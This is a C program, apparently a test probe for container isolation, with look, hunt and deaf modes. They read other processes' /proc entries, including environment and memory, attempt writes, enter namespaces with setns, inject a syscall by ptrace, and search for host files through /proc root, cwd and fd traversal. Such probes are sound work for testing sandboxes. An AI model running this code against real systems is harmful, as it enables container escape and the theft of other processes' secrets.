// What a container tries on a process that is not its own: a static program, run inside of it.
//   attack look PID       everything below /proc/PID, ptrace(2) and setns(2); a line "WHAT: RESULT" each
//   attack deaf COMMAND...   becomes COMMAND, with every signal ignored
//   attack hunt SECONDS FILE   until it has found FILE of the host's root through any process it sees; prints how
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void list(const char *what, const char *path) {
    printf("%s:", what);
    DIR *directory = opendir(path);
    if (!directory) {
        printf(" %s\n", strerror(errno));
        return;
    }
    for (struct dirent *entry; (entry = readdir(directory));) {
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..")) printf(" [%s]", entry->d_name);
    }
    closedir(directory);
    printf("\n");
}

// A file's first bytes, what is not printed as a dot.
static void show(const char *what, const char *path) {
    static char text[65536];
    printf("%s: ", what);
    int fd = open(path, O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
    if (length < 0) {
        printf("%s\n", strerror(errno));
    } else {
        for (ssize_t i = 0; i < length; i++) putchar(text[i] >= 32 && text[i] < 127 ? text[i] : text[i] == '\n' ? '|' : '.');
        printf("\n");
    }
    if (fd >= 0) close(fd);
}

static void try_to_write(const char *what, const char *path, int flags) {
    int fd = open(path, flags, 0600);
    printf("%s: %s\n", what, fd < 0 ? strerror(errno) : pwrite(fd, "x", 1, 0) < 0 ? strerror(errno) : "WRITTEN");
    if (fd >= 0) close(fd);
}

static void memory(int pid) {
    char path[64], line[512];
    long bytes = 0, found = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR);
    if (!maps || fd < 0) {
        printf("mem: %s\n", strerror(errno));
        return;
    }
    while (fgets(line, sizeof line, maps)) {
        unsigned long begin, end;
        if (sscanf(line, "%lx-%lx", &begin, &end) != 2) continue;
        char *page = malloc(end - begin);
        ssize_t got = pread(fd, page, end - begin, (off_t)begin);
        if (got > 0) bytes += got;
        if (got > 0 && memmem(page, (size_t)got, "rktlet", 6)) found++;
        if (got > 0 && memmem(page, (size_t)got, "gantry", 6)) found++;
        free(page);
    }
    printf("mem: %ld bytes, %ld of them of the engine\n", bytes, found);
}

// Makes it call getuid(2): its program counter is behind a system call's instruction.
static void trace(int pid) {
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
        printf("ptrace: %s\n", strerror(errno));
        return;
    }
    int status;
    waitpid(pid, &status, __WALL);
#ifdef __x86_64__
    struct user_regs_struct saved, changed;
    ptrace(PTRACE_GETREGS, pid, 0, &saved);
    changed = saved;
    changed.rax = SYS_getuid;
    changed.orig_rax = -1;
    changed.rip -= 2;
    if (saved.orig_rax == (unsigned long)-1) changed.rip += 2;
    ptrace(PTRACE_SETREGS, pid, 0, &changed);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
    waitpid(pid, &status, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &changed);
    printf("ptrace: attached, getuid() = %lld\n", (long long)changed.rax);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
#else
    printf("ptrace: attached, getuid() = -1\n");
#endif
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void enter(int pid, const char *name) {
    char path[64], label[64];
    snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, name);
    snprintf(label, sizeof label, "setns %s", name);
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        int fd = open(path, O_RDONLY);
        if (fd < 0 || setns(fd, 0) < 0) {
            printf("%s: %s\n", label, strerror(errno));
        } else if (!strcmp(name, "mnt")) {
            list("setns mnt root", "/");
            chdir("/");
            list("setns mnt above", "../../..");
        } else {
            printf("%s: entered\n", label);
        }
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

static void look(int pid) {
    const char *lists[] = {"root", "cwd", "fd", "root/..", "cwd/../..", "task"};
    const char *shows[] = {"status", "cmdline", "environ", "maps", "mountinfo", "auxv", "oom_score_adj", "cgroup", "limits", "comm"};
    const char *spaces[] = {"mnt", "net", "user", "ipc", "uts", "cgroup", "pid", "time"};
    char path[64], link[256];
    for (size_t i = 0; i < sizeof lists / sizeof lists[0]; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, lists[i]);
        list(lists[i], path);
    }
    for (size_t i = 0; i < sizeof shows / sizeof shows[0]; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, shows[i]);
        show(shows[i], path);
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length < 0) {
        printf("exe: %s\n", strerror(errno));
    } else {
        struct stat info;
        link[length] = 0;
        printf("exe: %s, %ld bytes\n", link, stat(path, &info) < 0 ? -1L : (long)info.st_size);
    }
    try_to_write("exe write", path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%d/root/made", pid);
    try_to_write("root write", path, O_RDWR | O_CREAT);
    memory(pid);
    for (size_t i = 0; i < sizeof spaces / sizeof spaces[0]; i++) enter(pid, spaces[i]);
    fflush(stdout);
    trace(pid);
}

static int reads(const char *path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0) return 0;
    close(fd);
    return 1;
}

static long hunt(double seconds, const char *file) {
    struct timespec begin, now;
    long rounds = 0, found = 0;
    char path[512];
    setvbuf(stdout, NULL, _IOLBF, 0);
    clock_gettime(CLOCK_MONOTONIC, &begin);
    do {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; all && (entry = readdir(all));) {
            int pid = atoi(entry->d_name);
            if (pid < 2 || pid == getpid()) continue;
            const char *ways[] = {"root", "cwd"};
            for (int way = 0; way < 2; way++) {
                snprintf(path, sizeof path, "/proc/%d/%s%s%s", pid, ways[way], way ? "/../../../../../../.." : "", file);
                if (reads(path)) found++, printf("%s\n", path);
            }
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            for (struct dirent *fd; fds && (fd = readdir(fds));) {
                snprintf(path, sizeof path, "/proc/%d/fd/%.8s/../../../../../../../../..%s", pid, fd->d_name, file);
                if (reads(path)) found++, printf("%s\n", path);
            }
            if (fds) closedir(fds);
        }
        if (all) closedir(all);
        rounds++;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((double)(now.tv_sec - begin.tv_sec) < seconds);
    printf("%ld rounds, %ld found\n", rounds, found);
    return found;
}

// Becomes another program, for which every signal is ignored: also those that the C library keeps for itself.
static int deaf(char **arguments) {
    uint64_t ignored[4] = {(uint64_t)SIG_IGN};
    for (int number = 1; number < NSIG; number++) syscall(SYS_rt_sigaction, number, ignored, NULL, sizeof(uint64_t));
    execv(arguments[0], arguments);
    return 127;
}

int main(int count, char **arguments) {
    if (count > 2 && !strcmp(arguments[1], "deaf")) return deaf(arguments + 2);
    if (count == 3 && !strcmp(arguments[1], "look")) look(atoi(arguments[2]));
    else if (count == 4 && !strcmp(arguments[1], "hunt")) hunt(atof(arguments[2]), arguments[3]);
    else return 2;
    return 0;
}
